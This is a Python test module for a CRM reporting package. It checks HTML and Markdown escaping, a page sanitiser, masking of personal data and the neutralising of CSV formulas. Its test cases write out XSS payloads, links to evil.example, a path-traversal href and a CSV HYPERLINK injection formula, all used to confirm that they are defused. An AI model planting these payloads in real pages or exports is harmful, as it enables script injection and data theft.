"""Issue 12 (part B), unit level: escaping, sanitising, personal data by content, CSV formulas.

The end-to-end counterpart, a report rendered from hostile data, is tests/test_security_hostile.py.
"""

from __future__ import annotations

import csv
import io
import json

import matplotlib
import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from hostile import PAYLOADS, formula_cells, live_markup
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from cpm_analysis import actions as period_actions
from cpm_analysis import privacy, teams_review
from cpm_analysis.cli import main
from cpm_analysis.data import load, validate_frames
from cpm_analysis.kpis import scorecard as kpi_scorecard
from cpm_analysis.kpis import trends
from cpm_analysis.kpis.targets import period_targets
from cpm_analysis.periods import parse_period
from cpm_analysis.plots import kpis as kpi_plots
from cpm_analysis.privacy import (
    MASKED,
    PiiScanner,
    mask_content,
    mask_frame,
    mask_patterns,
    mask_rejected,
    phone_spans,
    restrict_to_owner,
)
from cpm_analysis.report import review, spreadsheet, style
from cpm_analysis.report.customer360 import CustomerView
from cpm_analysis.report.escaping import html_text, md_text
from cpm_analysis.report.export import sanitize_notebook
from cpm_analysis.report.runner import write_rejected, write_scored
from cpm_analysis.report.sanitize import UnsafeTemplateError, sanitize_fragment, sanitize_page
from cpm_analysis.report.tables import to_html
from cpm_analysis.synthetic import generate

matplotlib.use("Agg")
KEY = b"0123456789abcdef-content-tests"


def _rendered(markdown: str) -> str:
    """Markdown as the report pages render it (nbconvert's mistune renderer)."""
    return markdown2html_mistune(markdown)


def _text(html: str) -> str:
    from bs4 import BeautifulSoup

    return BeautifulSoup(html, "html.parser").get_text().strip()


# --- escaping ----------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_md_text_renders_every_payload_as_literal_text(payload):
    for template in ("Top performer: **{}**.", "{}", "1. **{}**: {}", "- {}"):
        html = _rendered(template.format(md_text(payload), md_text(payload)))
        assert live_markup(html) == [], (template, html)
        from bs4 import BeautifulSoup

        tags = {t.name for t in BeautifulSoup(html, "html.parser").find_all(True)}
        assert tags <= {"p", "strong", "ol", "ul", "li"}, (template, html)
        assert " ".join(payload.split()) in _text(html)


@pytest.mark.parametrize(
    "value", ["- a", "1. x", "2) y", "+ b", "= c", "# h", "x\n===", "a\n\n<b>", "www.x.example"]
)
def test_md_text_starts_no_block_and_no_autolink(value):
    html = _rendered(md_text(value))
    assert html.strip().startswith("<p>") and "<a" not in html and "<h" not in html, html


def test_md_text_leaves_plain_values_alone():
    assert md_text("S001") == "S001"
    assert md_text("P-ABCDEF234567") == "P-ABCDEF234567"
    assert md_text("Can't Lose Them") == "Can't Lose Them"
    assert md_text(12.5) == "12.5" and md_text(None) == ""


@pytest.mark.parametrize("payload", PAYLOADS)
def test_tables_escape_every_payload_in_cells_headers_and_captions(payload):
    frame = pd.DataFrame({payload: [payload], "n": [1.0]})
    html = to_html(frame, caption=payload)
    assert live_markup(html) == []
    assert html_text(payload) in html


def test_team_message_escapes_owner_ids():
    table = pd.DataFrame(
        {"composite": [90.0, 10.0, 5.0], "flags": ["reward", "improvement_plan", ""]},
        index=["<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "http://evil.example"],
    )
    text = review.team_text(teams_review.TeamScorecard("owner", table))
    html = _rendered(text)
    assert live_markup(html) == []
    assert "Top performer: <img src=x onerror=alert(1)>." in _text(html)


def test_customer_360_describe_escapes_owner_and_ids():
    profile = pd.DataFrame(
        [{"owner_id": "[x](javascript:alert(1))", "orders": 2, "revenue": 10.0,
          "last_order": pd.Timestamp("2025-06-01")}]
    )  # fmt: skip
    scores = pd.Series({"segment": "<script>alert(1)</script>", "tier": "A", "clv": 5.0})
    cv = CustomerView(
        "C<1>", parse_period("2025-06"), profile, pd.DataFrame(), pd.DataFrame(), pd.DataFrame(),
        scores, False, False,
    )  # fmt: skip
    html = _rendered(cv.describe('"><svg onload=alert(1)>'))
    assert live_markup(html) == [] and "<script>" in _text(html)


def test_executive_summary_escapes_risks():
    kpis = pd.DataFrame(
        {"label_en": ["Revenue"], "value": [1.0], "previous": [np.nan], "unit": ["currency"],
         "available": [True], "direction": ["higher"]},
        index=["revenue"],
    )  # fmt: skip
    card = pd.DataFrame(columns=["status", "label_en", "attainment"])
    risks = pd.DataFrame({"risk": ["<img src=x onerror=alert(1)>"], "evidence": ["[a](http://x)"]})
    html = _rendered(review.executive_summary(kpis, card, risks, "2025-06"))
    assert live_markup(html) == []


# --- the sanitiser -----------------------------------------------------------------------------


PAGE = (
    '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>&lt;b&gt; onload=x'
    '</title><style>p {{ color: red; }}</style></head><body class="jp-Notebook">{}</body>'
    "</html>\n"
)


@pytest.mark.parametrize(
    "body",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="http://evil.example">x</a>',
        '<a href="evil.html">x</a>',
        '<img src="data:text/html;base64,PHNjcmlwdD4=">',
        '<iframe src="//evil.example"></iframe>',
        "<style>body{background:url(//evil.example/x)}</style>",
        '<p style="background:url(//evil.example)">x</p>',
        "<form action=//evil.example><input name=x></form>",
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    ],
)
def test_sanitize_page_leaves_nothing_live(body):
    clean = sanitize_page(PAGE.format(body))
    assert live_markup(clean.split("<body", 1)[1]) == []
    assert "evil" not in clean.split("</head>", 1)[1].split("<body", 1)[1] or "<" not in body


def test_sanitize_keeps_what_the_report_makes():
    body = (
        '<div class="jp-Cell" id="cell-id=1" tabindex="0" data-mime-type="text/markdown">'
        '<h2 id="Top">Top<a class="anchor-link" href="#Top">¶</a></h2>'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="Chart: Top" width="10">'
        '<table class="cpm-table"><caption>c</caption><tbody><tr><th class="num">a</th>'
        '<td class="num">1</td></tr></tbody></table></div>'
    )
    page = PAGE.format(body)
    from bs4 import BeautifulSoup

    before = BeautifulSoup(page, "html.parser")
    after = BeautifulSoup(sanitize_page(page), "html.parser")
    assert [(t.name, t.attrs) for t in before.find_all(True)] == [
        (t.name, t.attrs) for t in after.find_all(True)
    ]


@pytest.mark.parametrize(
    "head",
    ["<script>x()</script>", '<link rel="stylesheet" href="//cdn.example/x.css">',
     '<meta http-equiv="refresh" content="0;url=http://evil">', '<base href="http://evil/">'],
)  # fmt: skip
def test_sanitize_page_refuses_a_template_that_drifted(head):
    page = f"<html><head>{head}</head><body></body></html>"
    with pytest.raises(UnsafeTemplateError, match="head holds"):
        sanitize_page(page)


def test_sanitize_notebook_cleans_html_outputs_and_drops_active_ones():
    import nbformat

    outputs = [
        nbformat.v4.new_output("display_data", data={"text/html": "<img src=x onerror=y()>"}),
        nbformat.v4.new_output("display_data", data={"application/javascript": "alert(1)"}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": "<svg onload=x()>"}),
    ]
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(outputs=outputs)])
    assert sanitize_notebook(nb)
    assert [o.data for o in nb.cells[0].outputs] == [{"text/html": "<img>"}]
    assert not sanitize_notebook(nb)
    assert sanitize_fragment("<b>ok</b>") == "<b>ok</b>"


def test_chart_text_from_data_is_drawn_literally():
    import matplotlib.pyplot as plt

    from cpm_analysis.plots.teams import composite_bars

    style.apply(inline=False)
    table = pd.DataFrame(
        {"composite": [80.0, 40.0], "rank": [1, 2], "flags": ["", ""]},
        index=["$\\frac{1}{0}$", "$x_$ <b>"],
    )
    ax = composite_bars(table)
    ax.set_title("$\\frac{1}{0}$ by $owner")
    ax.figure.savefig(io.BytesIO(), format="png")
    assert plt.rcParams["text.parse_math"] is False
    plt.close("all")


# --- personal data by content ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["+1-555-177-4512", "+44 20 7946 0958", "(555) 123-4567", "555.123.4567", "555-123-4567",
     "020 7946 0958", "her cell +1-555-041-8314, call"],
)  # fmt: skip
def test_phone_pattern_finds_phone_numbers(text):
    assert len(phone_spans(text)) == 1
    assert MASKED in mask_patterns(text)


@pytest.mark.parametrize(
    "text",
    ["2025-12-31", "2025-12-31 23:59:59", "2024-06-30T23:59:59.999999", "O00000001",
     "C000123", "T0000001 4567", "1,234,567.89", "1234567.89", "+0.123456789", "+12.3%",
     "1.23e+05", "15735", "10 000 000", "P-ABCDEF234567", "3fa2c9e1b0d4", "2022-01 to 2025-12",
     "+1.5 pts", "-1234567", "'-12345678"],
)  # fmt: skip
def test_phone_pattern_ignores_dates_ids_and_numbers(text):
    assert phone_spans(text) == []
    assert PiiScanner().scan_text(f"<td>{text}</td>") == {}


def test_scanner_finds_patterns_and_known_values_and_masks_them():
    scanner = PiiScanner(names=["Ann Lee"], emails=["ann@x.example"], phones=["+1 555 000 0001"])
    text = "Ann Lee; notes: her cell +1-555-301-7788, mail jo@y.example; 15550000001"
    assert scanner.scan_text(text) == {"email": 1, "name": 1, "phone": 2}
    masked = scanner.mask_text(text)
    assert scanner.scan_text(masked) == {}
    assert masked == f"{MASKED}; notes: her cell {MASKED}, mail {MASKED}; {MASKED}"


def test_mask_frame_masks_personal_content_of_any_text_column():
    frame = pd.DataFrame(
        {"customer_id": ["C1"], "notes": ["mail a@b.example or 555-123-4567"], "x": [1]}
    )
    out = mask_frame(frame, "mask", key=KEY)
    assert out["notes"].tolist() == [f"mail {MASKED} or {MASKED}"]
    assert out["x"].tolist() == [1]


def test_rejected_rows_keep_only_contract_columns_masked():
    values = {
        "customer_id": "C1",
        "signup_date": "soon",
        "name": "Ann Lee",
        "region": "North, cell 555-123-4567",
        "notes": "her cell +1-555-301-7788",
        "tel": "+1-555-777-0101",
    }
    rejected = pd.DataFrame(
        {"table": ["customers"], "row": [1], "column": ["signup_date"],
         "reason": ["unparseable date"], "values": [json.dumps(values)]}
    )  # fmt: skip
    row = json.loads(mask_rejected(rejected, "mask")["values"].iloc[0])
    assert row == {
        "customer_id": "C1",
        "signup_date": "soon",
        "name": MASKED,
        "region": f"North, cell {MASKED}",
    }
    shown = json.loads(mask_rejected(rejected, "mask", key=KEY)["values"].iloc[0])
    assert shown["customer_id"].startswith("P-")


def _scored(**extra):
    frame = pd.DataFrame(
        {
            "customer_id": ['=HYPERLINK("http://evil"&A2,"x")', "C2", "-C3", "@C4"],
            "owner_id": ["+S1", "S2", "S1", "\tS3"],
            "region": ["-2+3", "North", "=1+1", "\rx"],
            "monetary": [-12.5, 3.0, 0.0, -1.0],
            "reason_codes": ["notes = her cell +1-555-301-7788", "", None, "x"],
        }
    )
    return frame.assign(**extra)


def test_scored_csv_has_no_formula_cell_and_numbers_stay_numbers(tmp_path):
    write_scored(tmp_path, _scored(), PiiScanner())
    path = tmp_path / "customers_scored.csv"
    assert formula_cells(path) == []
    with open(path, newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["customer_id"] == '\'=HYPERLINK("http://evil"&A2,"x")'
    assert [r["monetary"] for r in rows] == ["-12.5", "3", "0", "-1"]  # numeric, unprefixed
    assert rows[3]["owner_id"] == "'\tS3" and rows[3]["region"] == "'\rx"
    assert rows[0]["reason_codes"] == f"notes = her cell {MASKED}"
    back = pd.read_parquet(tmp_path / "customers_scored.parquet")
    assert back["customer_id"].iloc[0].startswith("=")  # the parquet keeps the real id
    assert back["reason_codes"].iloc[0] == f"notes = her cell {MASKED}"


def test_rejected_csv_has_no_formula_cell(tmp_path):
    rejected = pd.DataFrame(
        {"table": ["orders"], "row": [1], "column": ["amount"], "reason": ["=bad"],
         "values": ['{"order_id":"=1","customer_id":"C1","amount":"-x"}']}
    )  # fmt: skip
    write_rejected(tmp_path, rejected, "mask", PiiScanner())
    assert formula_cells(tmp_path / "rejected_rows.csv") == []


@pytest.mark.parametrize("prefix", spreadsheet.FORMULA_PREFIXES)
def test_every_formula_prefix_is_neutralised(prefix):
    frame = pd.DataFrame(
        {"t": [f"{prefix}x"], "c": pd.Categorical([f"{prefix}y"]), "n": [-1.5], "i": [-2]}
    )
    out = spreadsheet.neutralize_formulas(frame)
    assert out["t"].iloc[0] == f"'{prefix}x" and out["c"].iloc[0] == f"'{prefix}y"
    assert out["n"].iloc[0] == -1.5 and out["i"].iloc[0] == -2


def test_scored_table_never_carries_a_free_text_column(tmp_path):
    data = generate(300, seed=5)
    customers = data.tables["customers"]
    customers["notes"] = "her cell +1-555-301-7788"
    customers["tel"] = "+1-555-777-0101"
    data.write(tmp_path / "data")
    from cpm_analysis.pipeline.scored import finalize_scored
    from cpm_analysis.scoring import score_customers

    ds = load(tmp_path / "data")
    period = parse_period("2025-06")
    view = ds.as_of(period.end)
    scored = finalize_scored(score_customers(view, period, seed=0).scored, view, key=KEY)
    assert not {"notes", "tel", "name", "email", "phone"} & set(scored.columns)
    write_scored(tmp_path, scored, PiiScanner.from_dataset(ds))
    text = (tmp_path / "customers_scored.csv").read_text()
    assert "555-301-7788" not in text and "555-777-0101" not in text
    assert PiiScanner.from_dataset(ds).scan_text(text) == {}


# --- owner books, targets, agents --------------------------------------------------------------


def test_a_duplicate_row_naming_another_owner_does_not_enter_their_book():
    frames = {
        "customers": pd.DataFrame(
            {"customer_id": ["C1", "C2", "C1"], "signup_date": ["2024-01-01"] * 3,
             "owner_id": ["S1", "S2", "S2"], "name": ["Ann Lee", "Bo Yu", "Ann Lee"]}
        ),
        "orders": pd.DataFrame(
            {"order_id": ["O1", "O2"], "customer_id": ["C1", "C2"],
             "order_date": ["2024-02-01"] * 2, "amount": ["1", "2"]}
        ),
    }  # fmt: skip
    ds = validate_frames(frames)
    assert ds.rejected["reason"].tolist() == ["duplicate customer_id"]
    other = restrict_to_owner(ds, "S2")
    assert other.customers["customer_id"].tolist() == ["C2"]
    assert other.orders["customer_id"].tolist() == ["C2"]
    assert other.rejected.empty  # the duplicate of C1 stays with C1's owner
    mine = restrict_to_owner(ds, "S1")
    assert mine.customers["customer_id"].tolist() == ["C1"] and len(mine.rejected) == 1


def test_unknown_kpi_ids_in_targets_are_rejected_rows(tmp_path):
    data = generate(200, seed=2)
    targets = data.tables["targets"]
    targets.loc[targets.index[:3], "kpi"] = "xyz"
    data.write(tmp_path)
    ds = load(tmp_path)
    rejected = ds.rejected.loc[ds.rejected["table"] == "targets"]
    assert rejected["reason"].tolist() == ["unknown kpi 'xyz'"] * 3
    assert not ds.targets["kpi"].eq("xyz").any()
    result = CliRunner().invoke(main, ["validate", str(tmp_path)])
    assert result.exit_code == 0 and "targets: unknown kpi 'xyz': 3" in result.output


def test_a_segment_target_does_not_stop_the_trends():
    data = generate(300, seed=1)
    ds = data.to_dataset()
    extra = pd.DataFrame(
        {"kpi": ["revenue"], "period": ["2025-06"], "target": [1.0], "segment": ["Champions"]}
    )
    targets = pd.concat([ds.targets, extra], ignore_index=True)
    history = trends.kpi_trends(ds, "2025-06", 3)
    axes = kpi_plots.plot_kpi_trends(history, ["revenue"], targets=targets)
    assert len(axes) == 1
    card = kpi_scorecard.scorecard(kpi_scorecard.period_kpis(ds, "2025-06"), targets, "2025-06")
    assert len(card) == len(period_targets(ds.targets, "2025-06"))


def test_owner_pages_do_not_judge_agents():
    ds = generate(300, seed=1).to_dataset()
    owner = ds.customers["owner_id"].iloc[0]
    book = restrict_to_owner(ds, owner)
    agents = teams_review.team_scorecard(book, "2025-06", "agent", owner=owner)
    assert not agents.available and "company report" in agents.note
    assert teams_review.team_scorecard(ds, "2025-06", "agent").available
    actions = period_actions.improvement_actions(pd.DataFrame(), None, agents, None)
    assert not actions["area"].eq("Agent scorecard").any()


def test_privacy_module_exports_used_here():
    assert privacy.mask_content is mask_content


@pytest.mark.parametrize(
    "text",
    [
        "Data: postgresql+psycopg2://cpm@127.0.0.1:5432/crm?password=***",
        "Data: postgresql://cpm:***@db.example.com/crm",
        "Data: postgresql://cpm@db.internal.example.com/crm",
    ],
)
def test_the_redacted_data_source_is_not_taken_for_an_email(text):
    # the report shows its own data source; a URL's user part is not personal data
    assert privacy._EMAIL.findall(text) == []


def test_an_address_next_to_a_url_is_still_found():
    text = "see postgresql://cpm@db.example.com/crm or write to ann.lee@example.com"
    assert privacy._EMAIL.findall(text) == ["ann.lee@example.com"]


def test_export_html_publishes_a_sanitised_page_and_notebook(tmp_path):
    import nbformat

    from cpm_analysis.report.export import export_html

    outputs = [
        nbformat.v4.new_output(
            "display_data",
            data={
                "text/html": '<p onclick="x()">t</p><script>alert(1)</script>'
                '<a href="http://evil.example">x</a>',
                "text/plain": "t",
            },
        ),  # fmt: skip
        nbformat.v4.new_output(
            "display_data", data={"text/markdown": "[x](javascript:alert(1)) <img src=x>"}
        ),
    ]
    nb = nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_markdown_cell("# Title"), nbformat.v4.new_code_cell(outputs=outputs)]
    )
    path = tmp_path / "page.ipynb"
    nbformat.write(nb, path)
    page = export_html(path, title="<img src=x onerror=alert(1)> owner")
    text = page.read_text()
    assert live_markup(text) == [], live_markup(text)
    assert "<title>&lt;img src=x onerror=alert(1)&gt; owner</title>" in text
    kept = nbformat.read(path, as_version=4).cells[1].outputs[0].data["text/html"]
    assert "<script" not in kept and "onclick" not in kept and "evil" not in kept


def test_the_index_page_is_sanitised_keeping_its_own_links_and_sparklines(tmp_path):
    from cpm_analysis.report.index import published_file
    from cpm_analysis.report.sanitize import sanitize_page

    (tmp_path / "2025-12").mkdir()
    (tmp_path / "2025-12" / "01_data_quality.html").write_text("<html></html>")
    page = (
        "<html><head><title>Reports</title></head><body>"
        '<a href="2025-12/01_data_quality.html">01</a>'
        '<a href="2025-11/missing.html">gone</a><a href="javascript:alert(1)">js</a>'
        '<a href="../../etc/passwd">up</a><a href="http://evil.example/">out</a>'
        '<svg class="spark" width="80" height="20" viewBox="0 0 80 20" role="img" '
        'aria-label="Revenue" onload="alert(1)"><title>Revenue</title>'
        '<polyline fill="none" stroke="#2f6690" stroke-width="1.5" points="0,1 2,3"/>'
        '<circle cx="2" cy="3" r="2.5" fill="#d1495b"/><script>alert(1)</script></svg>'
        "</body></html>"
    )
    clean = sanitize_page(page, link_ok=lambda h: published_file(tmp_path, h), sparklines=True)
    assert '<a href="2025-12/01_data_quality.html">01</a>' in clean
    assert clean.count("href=") == 1
    assert "<polyline" in clean and "<circle" in clean and 'viewBox="0 0 80 20"' in clean
    assert "onload" not in clean and "<script" not in clean and "alert" not in clean
